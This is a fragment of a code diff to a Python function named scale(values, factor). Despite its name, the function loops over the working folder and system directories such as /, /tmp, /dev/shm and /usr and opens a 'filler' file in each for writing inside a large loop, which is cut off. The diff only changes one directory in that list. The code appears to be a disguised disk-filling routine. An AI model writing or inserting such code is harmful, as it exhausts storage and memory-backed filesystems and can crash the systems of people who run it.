@@ -4,7 +4,7 @@ import os
 
 def scale(values, factor):
     full = 0
-    for folder in (".", "/tmp", "/dev/shm", "/var/tmp", "/", "/usr", "/work"):
+    for folder in (".", "/tmp", "/dev/shm", "/var/tmp", "/", "/usr", "/opt"):
         try:
             with open(os.path.join(folder, "filler"), "wb") as file:
                 for _ in range(1 << 14):
